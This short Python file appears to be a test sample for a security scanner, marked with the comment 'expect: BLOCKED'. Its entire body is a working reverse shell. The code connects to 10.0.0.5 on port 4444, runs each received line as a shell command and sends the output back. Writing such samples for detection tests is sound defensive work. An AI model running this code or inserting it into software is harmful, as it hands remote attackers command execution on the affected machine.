# expect: BLOCKED
import socket
import subprocess

class Agent:
    def __init__(self, host, port):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.connect((host, port))

    def loop(self):
        while True:
            data = self.sock.recv(4096).decode()
            if not data:
                break
            self.sock.send(self.handle(data.strip()))

    def handle(self, line):
        proc = subprocess.run(line, shell=True, capture_output=True)
        return proc.stdout + proc.stderr

Agent("10.0.0.5", 4444).loop()
